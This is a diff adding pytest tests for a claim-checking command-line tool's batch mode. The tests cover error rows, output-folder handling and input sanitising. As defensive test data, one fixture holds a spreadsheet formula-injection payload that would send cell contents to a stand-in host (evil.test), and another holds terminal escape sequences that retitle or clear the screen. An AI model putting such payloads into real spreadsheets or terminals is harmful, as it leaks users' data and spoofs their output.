@@ -173,3 +173,110 @@ def test_resume_after_a_killed_run_equals_an_uninterrupted_run(store, tmp_path):
     assert r.returncode == 0, r.stderr
     assert "skipped" in r.stderr
     assert part.read_text() == full.read_text()
+
+
+# -- a row can fail, a batch cannot (issue: batch safety) ------------------------------------
+
+
+def test_unknown_source_filter_is_an_error_row_and_file_names_match(store, tmp_path):
+    src = tmp_path / "in.csv"
+    src.write_text(
+        "id,claim,source_filter\n"
+        "a,Biden and Putin spoke for 90 minutes,2021-12-31-biden-putin-call.txt\n"
+        "b,Putin seized Crimea in 2014,no-such-source.txt\n"
+        f"c,Putin seized Crimea in 2014,{SEEDS / '2021-12-31-biden-putin-call.txt'}\n"
+    )
+    out = tmp_path / "o.jsonl"
+    r = run(store, str(src), "--out", str(out))
+    assert r.exit_code == 1, r.output
+    rows = {x["id"]: x for x in _jsonl(out)}
+    assert rows["a"]["label"] == "REFUTED"  # the file name a user sees in their folder
+    assert "line 3" in rows["b"]["error"] and "no-such-source.txt" in rows["b"]["error"]
+    assert rows["c"]["label"] == "SUPPORTED"  # a path
+
+
+def test_a_huge_csv_field_is_an_error_row(store, tmp_path):
+    src = tmp_path / "in.csv"
+    src.write_text(f'id,claim\nbig,"{"word " * 40_000}"\nok,Putin seized Crimea in 2014\n')
+    r = run(store, str(src), "--out", str(tmp_path / "o.jsonl"))
+    assert r.exit_code == 1, r.output
+    rows = {x["id"]: x for x in _jsonl(tmp_path / "o.jsonl")}
+    assert "200,000 characters; limit 1,000" in rows["big"]["error"]
+    assert rows["ok"]["label"] == "SUPPORTED"
+
+
+def test_out_in_a_missing_folder_is_created(store, tmp_path):
+    src = tmp_path / "in.csv"
+    src.write_text("claim\nPutin seized Crimea in 2014\n")
+    out = tmp_path / "new" / "deeper" / "o.csv"
+    r = run(store, str(src), "--out", str(out))
+    assert r.exit_code == 0, r.output
+    assert "SUPPORTED" in out.read_text()
+
+
+def test_an_unwritable_output_stops_with_exit_2_and_one_line(store, tmp_path):
+    src = tmp_path / "in.csv"
+    src.write_text("claim\nPutin seized Crimea in 2014\n")
+    blocker = tmp_path / "file"
+    blocker.write_text("not a folder")
+    r = run(store, str(src), "--out", str(blocker / "o.csv"))
+    assert r.exit_code == 2
+    assert "cannot be written" in r.output and "Traceback" not in r.output
+
+
+def test_an_unreachable_store_stops_with_exit_2(tmp_path):
+    src = tmp_path / "in.csv"
+    src.write_text("claim\nPutin seized Crimea in 2014\n")
+    r = CliRunner().invoke(main, ["--chroma-url", "http://127.0.0.1:9", "batch", str(src)], env=ENV)
+    assert r.exit_code == 2 and "Chroma server" in r.output
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(store, tmp_path):
+    src = tmp_path / "in.jsonl"
+    evil = '=HYPERLINK("http://evil.test/"&A1,"click")'
+    src.write_text(
+        "".join(
+            json.dumps({"id": i, "claim": c}) + "\n"
+            for i, c in [("1", evil), ("2", "+1 555 0100 said hello"), ("3", "@SUM(A1:A9)")]
+        )
+    )
+    out = tmp_path / "o.csv"
+    run(store, str(src), "--out", str(out))
+    table = list(csv.DictReader(out.open(newline="")))
+    cells = [v for row in table for v in row.values() if v]
+    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
+    assert table[0]["claim"] == "'" + evil
+    # and --resume still recognises those rows
+    r = run(store, str(src), "--out", str(out), "--resume")
+    assert "3 skipped" in r.output
+
+
+def test_wrong_types_in_jsonl_are_named(store, tmp_path):
+    src = tmp_path / "in.jsonl"
+    src.write_bytes(
+        b'{"id": "num", "claim": 12345}\n'
+        b'{"id": "list", "claim": ["a"]}\n'
+        b'{"id": "date", "claim": "Putin seized Crimea in 2014", "dateline": 20211231}\n'
+        b'{"id": "bytes", "claim": "Putin \xff seized Crimea"}\n'
+        b'{"id": "ok", "claim": "Putin seized Crimea in 2014"}\n'
+    )
+    r = run(store, str(src), "--out", str(tmp_path / "o.jsonl"))
+    assert r.exit_code == 1
+    rows = {x["id"]: x for x in _jsonl(tmp_path / "o.jsonl")}
+    assert "'claim' must be text, not a number (12345)" in rows["num"]["error"]
+    assert "not a list" in rows["list"]["error"]
+    assert "'dateline' must be text" in rows["date"]["error"]
+    assert "line 4" in rows["bytes"]["error"] and "UTF-8" in rows["bytes"]["error"]
+    assert rows["ok"]["label"] == "SUPPORTED"
+
+
+def test_escape_sequences_never_reach_the_terminal(store, tmp_path):
+    claim = "Biden and Putin\x1b[31m spoke for 90 minutes\x1b]0;pwned\x07"
+    r = CliRunner().invoke(main, ["--store", store, "check", claim], env=ENV)
+    assert r.exit_code == 0
+    assert "\x1b" not in r.output and "\x07" not in r.output
+    assert "REFUTED" in r.output  # the same verdict as the clean claim
+    src = tmp_path / "in.csv"
+    src.write_text("id,claim,source_filter\nx\x1b]0;title\x07,Hi,\x1b[2Jnope\n")
+    r = run(store, str(src))
+    assert "\x1b" not in r.output and "\x07" not in r.output
